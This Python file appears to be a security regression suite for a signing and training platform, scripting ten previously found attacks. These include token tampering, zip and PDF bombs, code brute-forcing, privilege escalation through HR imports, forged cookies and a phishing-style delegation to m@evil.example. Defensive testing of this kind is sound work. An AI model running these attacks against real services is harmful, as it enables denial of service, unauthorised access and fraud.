"""What once worked against this product: ten holes that its first attackers found."""

import json
import re
import time
from collections.abc import Callable, Iterator

from attacks.browser import HOST, Answer
from attacks.target import OVER, SIGNED, Attempts, Target
from tests import harmful


def links_of_others(target: Target) -> Attempts:
    """A link for one use at the address of another, changed, and cut off."""
    known = target.known
    tokens = {
        "d": known["signatories"][0],
        "audit": known["audit"],
        "room": known["trainer"],
        "sign": known["seat"],
        "calendar": "",
        "unsubscribe": "",
        "invitations": "",
    }
    for use in tokens:
        end = ".ics" if use == "calendar" else "/"
        others = [token for name, token in tokens.items() if name != use and token]
        own = tokens[use]
        changed = [own[:-2] + ("AA" if own[-2:] != "AA" else "BB"), own[:-4], own.partition(".")[0]] if own else []
        for token in [*others, *changed, "a" * 45]:
            answer = target.browser().get(f"/{use}/{token}{end}")
            yield f"/{use}/{token[:12]}…", answer.status not in OVER


def costly_files(target: Target) -> Attempts:
    """Hole 1: what costs its reader far more than its sender. Any end is a page in words, within ten seconds."""
    lead = target.browser("lead")

    def seconds(send: Callable[[], Answer]) -> tuple[float, int]:
        began = time.monotonic()
        status = send().status
        return time.monotonic() - began, status

    for what, content in files_of_strangers():
        span, status = seconds(
            lambda content=content: target.browser().post("/verify/", files={"file": ("a.pdf", content)})
        )  # type: ignore[misc]
        yield f"{what}: {status} after {span:.1f} s", status in (500, 502, 504) or span > 12
    for what, path, field, name, content in files_of_members():
        span, status = seconds(lambda p=path, f=field, n=name, c=content: lead.post(p, {}, files={f: (n, c)}))  # type: ignore[misc]
        yield f"{what}: {status} after {span:.1f} s", status in (500, 502, 504) or span > 12


def files_of_strangers() -> Iterator[tuple[str, bytes]]:
    yield "fields in a circle", harmful.pdf_of_fields_in_a_circle()
    yield "pages in a circle", harmful.pdf_of_pages_in_a_circle()
    yield "fields that double", harmful.pdf_of_doubling_fields()
    yield "deep brackets", harmful.pdf_of_deep_brackets()
    yield "objects that expand", harmful.pdf_of_objects_that_expand()
    yield "many revisions", harmful.pdf_of_many_revisions()
    yield "a table of millions", harmful.pdf_whose_table_says_millions()
    yield "strings like codes", harmful.codes()
    yield "a badge without end", harmful.badge_without_end()


def files_of_members() -> Iterator[tuple[str, str, str, str, bytes]]:
    people, courses = "/aldermoor/people/imports/new/", "/aldermoor/courses/new/"
    yield (
        "a workbook of 2,000 rows by 16,384",
        people,
        "file",
        "a.xlsx",
        harmful.workbook({"A1": "Email", "XFD2000": "x"}),
    )
    yield "a page of 10 by 1000 points", "/aldermoor/documents/new/", "file", "a.pdf", harmful.pdf_with_page(10, 1000)
    yield "a page of a million points", "/aldermoor/documents/new/", "file", "a.pdf", harmful.pdf_with_page(1e6, 1e6)
    yield "a zip of 60,000 files", courses, "file", "a.zip", harmful.package_of_many()
    yield "a zip of 300 MB", courses, "file", "a.zip", harmful.package_that_unpacks()
    for what, text in harmful.markdown():
        page = {"course.md": b"---\ntitle: A\nslug: a\n---\n", "01-a/module.md": b"---\ntitle: A\n---\n"}
        sent = harmful.package(page | {"01-a/01-a.page.md": ("---\ntitle: A\n---\n" + text).encode()})
        yield f"a page with {what}", courses, "file", "a.zip", sent
    receipts = "/aldermoor/my-receipt/brought/"
    yield "a receipt of deep folders", receipts, "file", "a.zip", harmful.package_of_deep_folders()
    yield "a receipt of 60,000 files", receipts, "file", "a.zip", harmful.package_of_many()
    yield "a receipt of 300 MB", receipts, "file", "a.zip", harmful.package_that_unpacks()
    yield "a picture of 30,000 by 30,000", "/aldermoor/settings/", "logo", "a.png", harmful.png(30_000, 30_000)


def attached_people(target: Target) -> Attempts:
    """Holes 2 and 3: an HR file with somebody of another organisation, and with the number of an owner."""
    hr, eve = target.browser("hr"), target.browser("eve")
    before = target.inside("look")

    def take_in(text: str) -> None:
        answer = hr.post("/aldermoor/people/imports/new/", {}, files={"file": ("hr.csv", text.encode())})
        page = hr.get(answer.location).text
        seen = re.findall(r'name="seen" value="([^"]*)"', page)
        selects = re.findall(r'<select[^>]*name="(column-\d+)"(.*?)</select>', page, re.DOTALL)
        columns = {name: "".join(re.findall(r'value="([^"]*)"[^>]*\bselected', options)) for name, options in selects}
        hr.post(answer.location, columns | {"seen": "".join(seen), "apply": "1"})

    take_in("Email,First name,Last name\nnewcomer@aldermoor.example,New,N\neve@other.example,Eve,N\n")
    yield "nobody was imported: what follows says nothing", target.inside("look")["newcomers"] != 1
    yield "eve may be seen", eve.get("/aldermoor/").status == 200
    take_in("Employee number,First name,Last name,Email\n77,Claire,N,ravi2@aldermoor.example\n")
    after = target.inside("look")
    yield "eve was attached", after["attached"] != 0
    yield "the owner has another address", after["lead address"] != before["lead address"]
    hr.post(f"/aldermoor/people/{target.known['uids']['lead']}/roles/", {"role": "owner", "scope": "organisation"})
    hr.post(f"/aldermoor/people/{target.known['uids']['victim']}/roles/", {"role": "owner", "scope": "organisation"})
    yield "HR made an owner", target.inside("look")["owners"] != before["owners"]


def codes_walked_around(target: Target) -> Attempts:
    """Holes 4 and 8: a document that asks for a code, without it, and by trying codes."""
    token, other = target.known["signatories"][0], target.known["signatories"][1]
    before = target.inside("look")
    for path in ("pages/1/", "file/", "annexes/1/"):
        yield f"reading {path}", target.browser().get(f"/d/{token}/{path}").status not in OVER
    for path, sent in (
        ("", {"signature": SIGNED}),
        ("refusal/", {"reason": "No"}),
        ("delegation/", {"name": "Mallory", "email": "m@evil.example"}),
        ("delegation/", {"name": "pay at evil.example now", "email": "m@evil.example"}),
    ):
        yield f"{path or 'signing'}", target.browser().post(f"/d/{token}/{path}", sent).status not in OVER
    forged = target.browser()
    forged.cookies |= {f"document-{number:08x}": "x" for number in range(3)}
    yield "a cookie of one's own", forged.get(f"/d/{token}/file/").status == 200
    target.browser().post(f"/d/{token}/code/", {})
    stopped = 0
    for number in range(40):
        browser = target.browser()
        answer = target.followed(browser, browser.post(f"/d/{token}/code/", {"code": f"{number:06}"}))
        stopped += answer.status == 429 or "Too many" in answer.text
    yield f"more than 20 tries at one code in a day: {stopped} of 40 stopped", stopped < 15
    spoken = [
        target.browser().post("/sign/", {"code": f"{number:06}", "name": "Jonas Nygård"}).status for number in range(80)
    ]
    yield f"tries at a spoken code: {spoken.count(429)} of 80 stopped", 302 in spoken or spoken.count(429) == 0
    guess = target.browser().post("/sign/", {"code": target.known["spoken"], "name": "Mallory Nobody"})
    yield "the right spoken code, by nobody", guess.status == 302
    after = target.inside("look")
    for what in ("signed", "delegated"):
        yield f"{what}: {after[what] - before[what]}", after[what] != before[what]
    for _time in range(4):
        target.browser().post(f"/d/{other}/delegation/", {"name": "Mallory", "email": "m@evil.example"})
    yield "mail to a stranger", "m@evil.example" in target.mails()


def letters_that_stop_evidence(target: Target) -> Attempts:
    """Hole 5: letters of the world, and those that nobody can see."""
    token, lead = target.known["signatories"][2], target.browser("lead")
    target.browser().get(f"/d/{token}/")
    for text in ("a\u0000b", "a\u001bb", "\u202e\u202e"):
        answer = target.browser().post(f"/d/{token}/", {"signature": json.dumps({"text": text})})
        yield f"a name of {text!r}: {answer.status}", answer.status not in (200, 400)
    answer = target.browser().post(f"/d/{token}/", {"signature": json.dumps({"text": "王小明 😀"})})
    yield f"王小明 😀 can’t sign: {answer.status}", answer.status != 302
    for path in ("", "pages/1/", "file/"):
        yield f"the document {path}", lead.get(f"/aldermoor/documents/{target.known['document']}/{path}").status != 200
    yield "the signatory’s file", target.browser().get(f"/d/{token}/file/").status != 200


def files_by_their_hash(target: Target) -> Attempts:
    """Hole 6: any file of the organisation by its SHA-256."""
    for who in ("learner", "hr", "eve", "lead", ""):
        for digest in target.known["secrets"]:
            for name in ("a.pdf", "a.txt", "a.png"):
                answer = target.browser(who).get(f"/aldermoor/media/{digest}/{name}")
                yield f"{name} as {who or 'nobody'}", answer.status not in (302, 404)


def one_phone_for_two(target: Target) -> Attempts:
    """Hole 7: one phone signs for an absent colleague, the cookie thrown away between; the trainer must be told."""
    phone = "192.0.2.77"
    statuses = []
    for token in (target.known["seat"], target.known["other_seat"]):
        browser = target.browser(address=phone)
        browser.get(f"/sign/{token}/", **{"User-Agent": "Phone 1"})
        page = browser.get(f"/s/{target.known['slot']}/", **{"User-Agent": "Phone 1"})
        fields = dict(re.findall(r'name="(\w+)" value="([^"]*)"', page.text))
        answer = browser.post(
            f"/s/{target.known['slot']}/", fields | {"signature": SIGNED}, **{"User-Agent": "Phone 1"}
        )
        statuses.append(answer.status)
    doubted = target.inside("look")["doubted"]
    yield f"two signatures of one phone, {doubted} in doubt ({statuses})", statuses != [200, 200] or doubted < 2
    listed = target.browser().get(f"/room/{target.known['trainer']}/{target.known['slot']}/list/")
    yield "the trainer is not told", "doubt" not in listed.text.lower()


def learning_that_is_claimed(target: Target) -> Attempts:
    """Hole 9: a film by one request, a page that was not opened."""
    learner = target.browser("victim")
    slug, film, read = target.known["film"]
    beat = json.dumps({"position": 600, "ranges": [[0, 600]]}).encode()
    headers = {
        "Content-Type": "application/json",
        "X-CSRFToken": "c" * 32,
        "Referer": f"https://{HOST}/",
        "Origin": f"https://{HOST}",
    }
    for path, body in ((f"{film}/beat/", beat), (f"{film}/completion/", b"{}"), (f"{read}/completion/", b"{}")):
        learner.ask("POST", f"/aldermoor/learn/{slug}/{path}", body, headers)
    done = target.inside("look")["films done"]
    yield f"{done} steps of a course that nobody opened are done", done != 0
    learner.get(f"/aldermoor/learn/{slug}/{film}/")
    for _time in range(3):
        learner.ask("POST", f"/aldermoor/learn/{slug}/{film}/beat/", beat, headers)
    done = target.inside("look")["films done"]
    yield "ten minutes of a film in one second", done != 0


def forms_that_say_nothing(target: Target) -> Attempts:
    """Hole 10: a form that acts on people, without a selection."""
    lead, before = target.browser("lead"), target.inside("look")
    for route in target.routes:
        if "participants" in route["path"] or "enrolments/new" in route["path"] or "invitations" in route["path"]:
            lead.post(route["path"], {})
    after = target.inside("look")
    yield "everybody has a seat", after["seats of others"] != before["seats of others"]
    nobody = target.browser()
    nobody.post("/accounts/login/code/", {"email": target.known["emails"]["eve"], "next": "/aldermoor/"})
    mails = target.mails().rpartition("eve@other.example")[2]
    yield "the sign-in mail names another organisation", "Aldermoor" in mails
